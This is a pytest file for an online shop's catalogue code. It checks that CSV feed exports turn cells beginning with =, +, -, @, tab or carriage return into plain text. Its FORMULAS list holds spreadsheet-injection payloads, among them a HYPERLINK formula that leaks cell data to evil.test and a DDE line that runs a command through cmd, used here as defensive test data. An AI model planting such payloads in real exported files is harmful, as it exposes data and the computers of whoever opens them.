"""CSV exports never hand a spreadsheet a formula (``=HYPERLINK``, ``+``, ``-``, ``@``)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from niaga.catalog import csv_io
from niaga.catalog import service as catalog
from niaga.catalog.schemas import ProductCreate
from niaga.core.csv_safe import neutralise
from niaga.core.db import transaction

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_text(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert neutralise("Gamis -10%") == "Gamis -10%"  # only the start counts
    assert neutralise(150000) == 150000


def test_feed_export_neutralises_formulas_in_every_cell(factory: Any) -> None:
    with transaction(factory) as s:
        for i, value in enumerate(FORMULAS):
            catalog.do_create_product(
                s,
                ProductCreate(sku=f"F-{i}", name=value, description=value, brand=value, price=1000),
            )
    with factory() as s:
        text = csv_io.export_feed_csv(s, "https://toko.example")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("title", "description", "brand"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
            assert row[column].startswith("'")
